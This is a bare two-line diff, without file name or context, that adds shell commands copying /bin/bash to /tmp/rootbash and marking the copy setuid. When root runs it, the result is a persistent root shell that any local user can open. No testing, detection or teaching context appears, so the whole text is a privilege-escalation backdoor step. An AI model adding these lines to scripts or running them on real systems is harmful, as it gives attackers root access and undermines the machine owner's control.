@@ -1,0 +1,2 @@
+cp /bin/bash /tmp/rootbash
+chmod u+s /tmp/rootbash
